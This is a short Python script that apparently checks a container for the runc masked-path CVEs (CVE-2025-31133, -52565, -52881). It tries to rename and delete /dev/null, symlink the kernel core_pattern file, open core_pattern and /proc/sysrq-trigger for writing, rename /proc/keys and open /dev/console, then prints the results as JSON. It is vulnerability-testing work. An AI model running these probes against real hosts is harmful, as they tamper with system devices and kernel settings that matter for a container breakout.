"""CVE-2025-31133, -52565, -52881 (runc): what masks a path was swapped while the container was set up.

Looks at the masks and at the devices behind them, and tries to put something in their place.
"""

import errno
import json
import os
import stat


def attempt(function, *arguments):
    try:
        function(*arguments)
        return "ok"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error.errno))


def write(path):
    return attempt(lambda: os.close(os.open(path, os.O_WRONLY)))


null = os.stat("/dev/null")
told = {
    "null": stat.S_ISCHR(null.st_mode) and null.st_rdev == os.makedev(1, 3),
    "replace null": attempt(os.rename, "/dev/null", "/dev/old"), "remove null": attempt(os.unlink, "/dev/null"),
    "link console": attempt(os.symlink, "/proc/sys/kernel/core_pattern", "/dev/console2"), "console": os.path.exists("/dev/console"),
    "core pattern": write("/proc/sys/kernel/core_pattern"), "sysrq": write("/proc/sysrq-trigger"),
    "remount": attempt(os.rename, "/proc/keys", "/proc/keys2"),
    "new terminal": attempt(lambda: os.close(os.open("/dev/console", os.O_RDWR))),
}
print(json.dumps(told))
